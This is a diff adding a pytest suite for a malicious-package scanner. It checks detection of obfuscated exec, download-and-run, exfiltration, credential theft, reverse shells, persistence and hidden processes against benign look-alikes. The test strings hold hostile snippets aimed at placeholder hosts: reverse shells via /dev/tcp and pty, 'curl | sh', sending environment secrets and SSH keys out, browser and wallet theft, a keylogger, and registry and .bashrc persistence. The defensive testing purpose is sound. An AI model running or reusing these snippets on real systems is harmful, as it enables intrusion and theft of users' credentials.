@@ -1,0 +1,426 @@
+"""Layer-2 threats (bot.analysis.threats): each type on malicious shapes and on the benign
+idioms of popular projects that look alike. Snippets are analyzed as bytes, never run;
+hosts are documentation addresses or example.invalid."""
+
+from __future__ import annotations
+
+import ast
+import base64
+import zlib
+
+import pytest
+
+from bot.analysis.imports import Scopes
+from bot.analysis.payloads import MAX_PAYLOAD, decode_payload
+from bot.analysis.threats import THREAT_TYPES, may_hold_threat, threat_prescan
+from bot.analysis.types import FileRole
+from bot.model import AlertType, Finding, Severity
+from tests.analysis.snippets import findings
+
+INIT = FileRole.PACKAGE_INIT
+INSTALL = FileRole.INSTALL_TIME
+
+
+def threats(source: str, role: FileRole = FileRole.MODULE) -> list[Finding]:
+    return [f for f in findings(source, role) if f.type in THREAT_TYPES]
+
+
+def types(source: str, role: FileRole = FileRole.MODULE) -> set[str]:
+    return {f.type.value for f in threats(source, role)}
+
+
+# --- obfuscated-exec ----------------------------------------------------------------------
+
+def test_fernet_decrypted_exec_names_the_chain() -> None:
+    source = """\
+    from cryptography.fernet import Fernet
+    KEY = b"k"
+    BLOB = b"gAAAAA"
+    def run():
+        exec(Fernet(KEY).decrypt(BLOB))
+    run()
+    """
+    [found] = threats(source)
+    assert found.type is AlertType.OBFUSCATED_EXEC
+    assert found.severity is Severity.CRITICAL
+    assert found.line == 5
+    assert found.reason == (
+        "Decrypts data with `cryptography.fernet.Fernet.decrypt` (pkg/mod.py:5) and runs the "
+        "result with `exec` (pkg/mod.py:5).")
+
+
+@pytest.mark.parametrize("source", [
+    # AES through a cipher object
+    "from Crypto.Cipher import AES\nc = AES.new(k, AES.MODE_CBC, iv)\nexec(c.decrypt(blob))\n",
+    # pieces joined from a list bound to a name
+    "import os\nparts = ['o', 's.sy', 'stem']\ncode = ''.join(parts)\neval(code)\n",
+    # decoded in a helper, run by the caller
+    "import base64\ndef unpack(s):\n    return base64.b64decode(s)\nexec(unpack(DATA))\n",
+    # lambda indirection
+    "import zlib\nrun = lambda c: exec(c)\nrun(zlib.decompress(BLOB))\n",
+    # getattr on builtins with a computed name
+    "import builtins, base64\ngetattr(builtins, 'ex' + 'ec')(base64.b64decode(P))\n",
+    # a decoded shell command
+    "import os, base64\nos.system(base64.b64decode('aWQ=').decode())\n",
+])
+def test_hidden_code_shapes_are_obfuscated_exec(source: str) -> None:
+    assert "obfuscated-exec" in types(source)
+
+
+def test_decoded_payload_is_analyzed_and_its_calls_listed() -> None:
+    inner = b"import os\nos.system('id')\nimport urllib.request\nurllib.request.urlopen(U)\n"
+    payload = base64.b64encode(zlib.compress(inner)).decode()
+    source = f"import base64, zlib\nexec(zlib.decompress(base64.b64decode('{payload}')))\n"
+    [found] = [f for f in findings(source) if f.type is AlertType.OBFUSCATED_EXEC]
+    assert found.reason == (
+        "Runs hidden code: exec of data decoded with base64.b64decode+zlib.decompress; the "
+        "hidden code calls `os.system`, `urllib.request.urlopen`.")
+
+
+def test_nested_payload_threats_are_reported_at_the_outer_line() -> None:
+    stage2 = b"import os, requests\nrequests.post('http://203.0.113.7/c', data=dict(os.environ))\n"
+    stage1 = f"import base64\nexec(base64.b64decode({base64.b64encode(stage2)!r}))\n".encode()
+    source = f"import base64\n\nexec(base64.b64decode({base64.b64encode(stage1)!r}))\n"
+    exfil = [f for f in threats(source) if f.type is AlertType.EXFILTRATION]
+    assert exfil and all(f.line == 3 for f in exfil)
+    assert exfil[0].reason.startswith("In code decoded at pkg/mod.py:3: In code decoded at ")
+
+
+def test_code_generators_and_version_reads_are_not_obfuscated_exec() -> None:
+    # attrs/dataclasses build source with "\n".join and compile it; setup.py reads a version.
+    assert types("""\
+    def make(lines, ns):
+        src = "\\n".join(lines)
+        exec(compile(src, "<gen>", "exec"), ns)
+    exec(open("pkg/_version.py").read())
+    items = sorted(data)[::-1]
+    eval(repr(items))
+    """) == set()
+
+
+def test_pickled_compressed_cache_is_not_a_threat() -> None:
+    assert types("import pickle, zlib\ndef get(f):\n    return pickle.loads(zlib.decompress(f"
+                 ".read()))\n") == set()
+
+
+# --- download-exec ------------------------------------------------------------------------
+
+def test_download_write_run_chain_lists_every_step() -> None:
+    source = """\
+    import os, subprocess, tempfile, urllib.request
+    def update():
+        url = "https://example.invalid/a.exe"
+        path = os.path.join(tempfile.gettempdir(), "a.exe")
+        data = urllib.request.urlopen(url).read()
+        with open(path, "wb") as f:
+            f.write(data)
+        subprocess.Popen([path])
+    update()
+    """
+    [found] = threats(source)
+    assert found.type is AlertType.DOWNLOAD_EXEC
+    assert found.reason == (
+        "Downloads `https://example.invalid/a.exe` with `urllib.request.urlopen` "
+        "(pkg/mod.py:5), writes it to `a.exe` (pkg/mod.py:7) and runs it with "
+        "`subprocess.Popen` (pkg/mod.py:8).")
+
+
+@pytest.mark.parametrize("source", [
+    "import requests\nexec(requests.get('https://example.invalid/p').text)\n",
+    "import urllib.request as u\nexec(u.urlopen(URL).read().decode())\n",
+    "import os\nos.system('curl -s https://example.invalid/i.sh | sh')\n",
+    "import os\nos.system('certutil -urlcache -f http://example.invalid/u.exe u.exe"
+    " && start u.exe')\n",
+    "import urllib.request, importlib\nc = urllib.request.urlopen(U).read()\n"
+    "open('pkg/_p.py', 'wb').write(c)\nimportlib.import_module('pkg._p')\n",
+    "import urllib.request, ctypes\nurllib.request.urlretrieve(U, '/tmp/l.so')\n"
+    "ctypes.CDLL('/tmp/l.so')\n",
+])
+def test_download_exec_shapes(source: str) -> None:
+    assert "download-exec" in types(source)
+
+
+def test_downloading_without_running_is_only_a_capability() -> None:
+    # pip, requests and package indexes download and write files; nothing runs them.
+    assert types("""\
+    import requests, subprocess
+    def fetch(url, dest):
+        r = requests.get(url)
+        with open(dest, "wb") as f:
+            f.write(r.content)
+        subprocess.run(["git", "status"])
+        return r.json()
+    """) == set()
+
+
+# --- exfiltration ---------------------------------------------------------------------------
+
+def test_whole_environment_to_any_host_is_exfiltration() -> None:
+    [found] = threats("""\
+    import json, os, urllib.request
+    def report():
+        body = json.dumps({"env": dict(os.environ)}).encode()
+        urllib.request.urlopen(urllib.request.Request("https://example.invalid/c", body))
+    """)
+    assert found.type is AlertType.EXFILTRATION
+    assert found.reason.startswith("Reads the whole environment (pkg/mod.py:3) and sends it to")
+
+
+@pytest.mark.parametrize("source", [
+    # a secret to a webhook
+    "import os, requests\nrequests.post('https://discord.com/api/webhooks/1/x',"
+    " json={'t': os.getenv('GITHUB_TOKEN')})\n",
+    # host identity to a raw IP from a helper
+    "import getpass, socket, requests\ndef who():\n    return f'{getpass.getuser()}@"
+    "{socket.gethostname()}'\nrequests.get('http://203.0.113.5/b', params={'u': who()})\n",
+    # clipboard into a message sent over SMTP
+    "import smtplib, pyperclip\nm = {}\nm['body'] = pyperclip.paste()\n"
+    "smtplib.SMTP('198.51.100.2').sendmail('a', 'b', str(m))\n",
+    # a socket send of a private key
+    "import os, socket\nkey = open(os.path.expanduser('~/.ssh/id_rsa')).read()\n"
+    "s = socket.socket()\ns.connect(('203.0.113.9', 80))\ns.send(key.encode())\n",
+])
+def test_exfiltration_shapes(source: str) -> None:
+    assert "exfiltration" in types(source)
+
+
+def test_ordinary_clients_sending_their_own_credentials_are_quiet() -> None:
+    # requests' netrc auth, a GitHub client's token, paramiko's ssh config, telemetry.
+    assert types("""\
+    import netrc, os, socket, requests, paramiko
+    def auth(url):
+        login = netrc.netrc(os.path.expanduser("~/.netrc")).authenticators("h")
+        return requests.get(url, auth=login)
+    def github(repo):
+        headers = {"Authorization": f"token {os.environ['GITHUB_TOKEN']}"}
+        return requests.get(f"https://api.github.com/repos/{repo}", headers=headers)
+    def ssh():
+        config = open(os.path.expanduser("~/.ssh/config")).read()
+        client = paramiko.SSHClient()
+        client.connect(config.split()[1])
+    def tags():
+        return requests.post("https://sentry.example.org/api", json={"host": socket.gethostname()})
+    """) == set()
+
+
+# --- credential-theft ---------------------------------------------------------------------
+
+def test_browser_and_wallet_raid_is_credential_theft() -> None:
+    found = threats(r"""
+    import os, shutil, sqlite3
+    LOCAL = os.getenv("LOCALAPPDATA")
+    def grab():
+        db = os.path.join(LOCAL, "Google", "Chrome", "User Data", "Default", "Login Data")
+        shutil.copy(db, "t.db")
+        rows = sqlite3.connect("t.db").execute("select * from logins").fetchall()
+        wallets = os.path.join(os.getenv("APPDATA"), "Exodus/exodus.wallet")
+        return rows, os.listdir(wallets)
+    """)
+    assert [f.type for f in found] == [AlertType.CREDENTIAL_THEFT]
+    assert found[0].normalized == "browser+wallet"
+
+
+def test_one_browser_store_without_network_is_not_theft() -> None:
+    # yt-dlp and browser-cookie3 read cookies for the user; they send nothing themselves.
+    assert types("""\
+    import os, sqlite3
+    def cookies(profile):
+        path = os.path.join(profile, "Network", "Cookies")
+        return sqlite3.connect(path).execute("select host_key from cookies").fetchall()
+    """) == set()
+
+
+# --- reverse-shell --------------------------------------------------------------------------
+
+@pytest.mark.parametrize("source", [
+    "import socket, os, pty\ns = socket.socket()\ns.connect(('203.0.113.1', 4444))\n"
+    "os.dup2(s.fileno(), 0)\nos.dup2(s.fileno(), 1)\npty.spawn('/bin/sh')\n",
+    "import socket, subprocess\ns = socket.create_connection(('203.0.113.1', 9))\n"
+    "subprocess.call(['/bin/sh', '-i'], stdin=s.fileno(), stdout=s.fileno())\n",
+    "import os\nos.system('bash -i >& /dev/tcp/203.0.113.1/4444 0>&1')\n",
+    "import os\nos.system(\"python3 -c 'import socket,os,pty;s=socket.socket();"
+    "s.connect((\\\"203.0.113.9\\\",4242));[os.dup2(s.fileno(),f) for f in (0,1,2)];"
+    "pty.spawn(\\\"/bin/sh\\\")' &\")\n",
+])
+def test_reverse_shell_shapes(source: str) -> None:
+    assert "reverse-shell" in types(source)
+
+
+def test_pty_terminal_and_socket_servers_are_not_shells() -> None:
+    # pexpect/ptyprocess spawn programs on a pty; servers use sockets; neither wires them.
+    assert types("""\
+    import os, pty, socket, subprocess
+    def spawn(argv):
+        pid, fd = pty.fork()
+        if pid == 0:
+            os.execvp(argv[0], argv)
+    def serve():
+        s = socket.socket()
+        s.bind(("127.0.0.1", 0))
+        subprocess.run(["ls"], stdout=subprocess.PIPE)
+    """) == set()
+
+
+# --- persistence ----------------------------------------------------------------------------
+
+@pytest.mark.parametrize("source", [
+    "import os\nwith open(os.path.expanduser('~/.bashrc'), 'a') as f:\n    f.write(CMD)\n",
+    "import subprocess\nsubprocess.run(['schtasks', '/create', '/tn', 'u', '/tr', 'x.exe'])\n",
+    "import winreg\nk = winreg.OpenKey(winreg.HKEY_CURRENT_USER, "
+    "r'Software\\Microsoft\\Windows\\CurrentVersion\\Run', 0, winreg.KEY_SET_VALUE)\n"
+    "winreg.SetValueEx(k, 'u', 0, winreg.REG_SZ, 'x.exe')\n",
+    "import shutil, os, sys\nshutil.copy(sys.argv[0], os.path.join(os.getenv('APPDATA'), "
+    "'Microsoft/Windows/Start Menu/Programs/Startup/u.exe'))\n",
+    "import site, os\nopen(os.path.join(site.getsitepackages()[0], 'sitecustomize.py'), 'w')"
+    ".write('import x')\n",
+    "open('/etc/systemd/system/u.service', 'w').write(UNIT)\n",
+])
+def test_persistence_shapes(source: str) -> None:
+    assert "persistence" in types(source)
+
+
+def test_build_environments_and_cli_rc_helpers_are_not_persistence() -> None:
+    # pip's isolated build env writes a throw-away sitecustomize; argcomplete's installer
+    # appends to ~/.bashrc only when the user runs its command.
+    assert types("""\
+    import os, textwrap
+    class BuildEnvironment:
+        def __init__(self, site_dir):
+            with open(os.path.join(site_dir, "sitecustomize.py"), "w") as fp:
+                fp.write(textwrap.dedent("import sys"))
+    def activate_global():
+        with open(os.path.expanduser("~/.bashrc"), "a") as f:
+            f.write("eval $(register-python-argcomplete x)")
+    """) == set()
+
+
+# --- hidden-process -------------------------------------------------------------------------
+
+@pytest.mark.parametrize("source", [
+    "import subprocess, requests\nr = requests.get(U)\nopen('x.exe', 'wb').write(r.content)\n"
+    "subprocess.Popen(['x.exe'], creationflags=subprocess.CREATE_NO_WINDOW)\n",
+    "import subprocess, base64\nopen('/tmp/.s', 'wb').write(base64.b64decode(B))\n"
+    "subprocess.Popen(['/tmp/.s'], start_new_session=True)\n",
+    "import os, requests\np = os.path.expandvars(r'%TEMP%\\h.exe')\n"
+    "open(p, 'wb').write(requests.get(U).content)\nos.system('start /b ' + p)\n",
+])
+def test_hidden_process_shapes(source: str) -> None:
+    assert "hidden-process" in types(source)
+
+
+def test_windowless_tools_of_ordinary_code_are_quiet() -> None:
+    # IDEs and CLIs hide console windows for their own tools; daemons detach themselves.
+    assert types("""\
+    import subprocess, sys
+    def version():
+        return subprocess.run(["git", "--version"], creationflags=0x08000000)
+    def daemon():
+        subprocess.Popen([sys.executable, "-m", "pkg.worker"], start_new_session=True)
+    """) == set()
+
+
+# --- install time ---------------------------------------------------------------------------
+
+def test_setup_py_contact_is_a_payload_and_build_tools_are_processes() -> None:
+    source = """\
+    import subprocess, urllib.request
+    from setuptools import setup
+    flags = subprocess.check_output(["pg_config", "--includedir"])
+    subprocess.check_call(["git", "describe"])
+    urllib.request.urlopen("http://203.0.113.3/ping")
+    setup()
+    """
+    rows = {(f.type.value, f.line) for f in findings(source, INSTALL)
+            if f.type.value.startswith("install-") and f.type.value != "install-script"}
+    assert rows == {("install-process", 3), ("install-process", 4),
+                    ("install-time-payload", 5)}
+
+
+# --- dataflow bounds and hostile inputs ---------------------------------------------------
+
+def test_deeply_nested_decoders_end_in_a_bounded_result() -> None:
+    code = b"print(1)"
+    for _ in range(30):
+        encoded = repr(base64.b64encode(code)).encode()
+        code = b"import base64\nexec(base64.b64decode(" + encoded + b"))"
+    result = findings(code.decode())
+    assert any(f.type is AlertType.OBFUSCATED_EXEC for f in result)
+
+
+def test_decompression_bomb_is_not_inflated() -> None:
+    bomb = base64.b64encode(zlib.compress(b"\0" * (MAX_PAYLOAD * 4))).decode()
+    scopes = Scopes()
+    tree = ast.parse(f"import zlib, base64\nzlib.decompress(base64.b64decode('{bomb}'))")
+    for statement in tree.body[:1]:
+        assert isinstance(statement, ast.Import)
+        scopes.bind_import(statement)
+    call = tree.body[1]
+    assert isinstance(call, ast.Expr)
+    assert decode_payload(call.value, scopes.resolve, lambda name: None) is None
+    assert "obfuscated-exec" in types(f"import zlib, base64\nexec(zlib.decompress("
+                                      f"base64.b64decode('{bomb}')))\n")
+
+
+def test_many_functions_and_long_chains_stay_fast_and_bounded() -> None:
+    lines = ["import os, requests", "v0 = os.environ.copy()"]
+    lines += [f"def f{i}(x):\n    return f{i - 1}(x) if x else v{i - 1}" for i in range(1, 300)]
+    lines += [f"v{i} = v{i - 1}" for i in range(1, 300)]
+    lines.append("requests.post('https://example.invalid/c', json=v299)")
+    found = types("\n".join(lines) + "\n")
+    assert found == {"exfiltration"}
+
+
+def test_gates_are_cheap_token_tests() -> None:
+    assert not may_hold_threat(b"import json\nprint(json.dumps({}))\n", FileRole.MODULE)
+    assert may_hold_threat(b"import os, requests\nrequests.post(u, data=dict(os.environ))",
+                           FileRole.MODULE)
+    assert not threat_prescan(b"import requests\nrequests.get('https://pypi.org')\n")
+    assert threat_prescan(b"exec(base64.b64decode(x))")
+    assert threat_prescan(b"os.dup2(s.fileno(), 0)")
+
+
+def test_threats_in_package_init_at_import_count_single_secrets() -> None:
+    source = """\
+    import os, requests
+    def _ping():
+        requests.post("https://example.invalid/i", data={"k": os.environ["AWS_SECRET_ACCESS_KEY"]})
+    _ping()
+    """
+    assert types(source, INIT) == {"exfiltration"}
+    assert types(source) == set()  # the same helper in a module nobody calls at import
+
+
+# --- chains added from the development set -------------------------------------------------
+
+@pytest.mark.parametrize(("source", "kind", "role"), [
+    # keystrokes from a keyboard hook, buffered in a module list, posted to a webhook
+    ("import requests\nfrom pynput import keyboard\nHOOK = 'https://discord.com/api/webhooks/1/x'"
+     "\nbuf = []\ndef on_press(key):\n    buf.append(str(key))\n"
+     "    requests.post(HOOK, json={'c': ''.join(buf)})\n"
+     "keyboard.Listener(on_press=on_press).start()\n", "exfiltration", FileRole.MODULE),
+    # the user and host name interpolated into a DNS lookup at install time
+    ("import subprocess\nsubprocess.run('nslookup `whoami`.`hostname`.b.example.invalid',"
+     " shell=True)\n", "exfiltration", INSTALL),
+    # inline Python started windowless and detached, decoding a stage
+    ("import subprocess, sys\nP = \"import base64;exec(base64.b64decode('aWQ='))\"\n"
+     "subprocess.Popen([sys.executable, '-c', P], creationflags=0x08000000,"
+     " start_new_session=True)\n", "hidden-process", INIT),
+    # a program shipped in the package started detached when the package is imported
+    ("import os, subprocess\nsubprocess.Popen(os.path.join(os.path.dirname(__file__), 'bin'),"
+     " start_new_session=True)\n", "hidden-process", INIT),
+    # ~/.profile appended through pathlib
+    ("from pathlib import Path\nstartup = Path.home() / '.s.py'\nstartup.write_text(CODE)\n"
+     "with (Path.home() / '.profile').open('a') as h:\n"
+     "    h.write(f'export PYTHONSTARTUP={startup}')\n", "persistence", INIT),
+    # browser cookies read with a cookie library and posted
+    ("import browser_cookie3, requests\nc = [x.value for x in browser_cookie3.chrome()]\n"
+     "requests.post('https://example.invalid/c', json=c)\n", "exfiltration", FileRole.MODULE),
+])
+def test_development_set_chains(source: str, kind: str, role: FileRole) -> None:
+    assert kind in types(source, role)
+
+
+def test_threats_in_setup_py_are_also_install_time_payloads() -> None:
+    found = types("import os, requests\nexec(requests.get('https://example.invalid/s').text)\n",
+                  INSTALL)
+    assert {"download-exec", "install-time-payload"} <= found
